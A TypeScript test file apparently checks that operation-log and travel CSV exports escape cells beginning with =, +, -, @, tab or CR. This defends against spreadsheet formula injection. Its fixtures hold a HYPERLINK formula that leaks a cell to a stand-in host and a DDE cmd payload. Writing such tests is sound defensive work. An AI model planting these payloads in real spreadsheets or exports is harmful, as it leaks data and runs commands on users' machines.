// Issue 38, finding 6: a cell a spreadsheet reads as a formula is written with a leading ' in both CSV exports
// (操作日志 and 出差导出), so =HYPERLINK(…) or @SUM(…)*cmd|… stays text in Excel (OWASP's CSV injection advice).
import { operationLogCsv } from '../../../application/admin/operation-log';
import { travelCsv } from '../../../application/export/travel-export';
import { csvText } from '../../../application/shell/csv-text';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"点击查看")';
const CMD = "@SUM(1+1)*cmd|' /C calc'!A0";

test('every cell starting with = + - @ tab or CR gets a leading \' (and is still quoted where needed)', () => {
  const csv = csvText([['=1+1', '+1', '-2', '@A1', '\t=1', '\r=1', '普通', 'a=b', '']]);
  expect(csv).toBe('\uFEFF\'=1+1,\'+1,\'-2,\'@A1,\'\t=1,"\'\r=1",普通,a=b,\r\n');
});

test('操作日志 CSV: a forged target and detail are written as text, not formulas', () => {
  const csv = operationLogCsv([
    { id: '1', action: 'add_role', target: HYPERLINK, userName: '=cmd', change: '+1 → -1', detail: CMD, at: '2026-05-01T09:00:00.000Z' },
  ], (iso) => iso.slice(0, 10));
  const line = csv.split('\r\n')[1]!;
  expect(line).toBe(`2026-05-01,'=cmd,新增角色,"'=HYPERLINK(""https://evil.example/?d=""&A1,""点击查看"")",'+1 → -1,'${CMD}`);
  for (const cell of ['=HYPERLINK', '=cmd', '@SUM']) expect(line).not.toMatch(new RegExp(`(^|,|")${cell.replace(/[+]/g, '\\+')}`));
});

test('出差导出 CSV: a field typed as a formula is written as text', () => {
  const csv = travelCsv({
    columns: [{ id: 'trip_region', title: '目的地' }, { id: 'trip_email', title: '联系邮箱' }],
    rows: [{ instanceId: 'i-1', applicant: '@张三', department: '-销售部', status: 'approved', createdAt: '2026-05-01T08:00:00.000Z', fields: { trip_region: HYPERLINK, trip_email: CMD } }],
  });
  const line = csv.split('\r\n')[1]!;
  // No 审批编号 rule: the column says — (issue 43 #8), never the internal id.
  expect(line).toBe(`—,'@张三,'-销售部,已通过,2026-05-01 08:00,"'=HYPERLINK(""https://evil.example/?d=""&A1,""点击查看"")",'${CMD}`);
});
